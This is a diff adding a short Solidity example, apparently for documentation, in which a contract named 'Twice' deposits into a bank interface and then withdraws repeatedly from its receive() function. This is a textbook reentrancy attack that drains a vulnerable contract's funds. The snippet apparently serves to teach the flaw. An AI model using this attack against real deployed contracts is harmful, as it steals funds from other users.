@@ -8,3 +8,22 @@ contract Gift {
     }
 }
 // #endregion attack
+
+// #region second
+interface IBank {
+    function deposit() external payable;
+    function withdraw() external;
+}
+
+/// Withdraws, and withdraws again while it is being paid.
+contract Twice {
+    function attack(IBank bank) external payable {
+        bank.deposit{value: msg.value}();
+        bank.withdraw();
+    }
+
+    receive() external payable {
+        if (msg.value > 0) IBank(msg.sender).withdraw();
+    }
+}
+// #endregion second
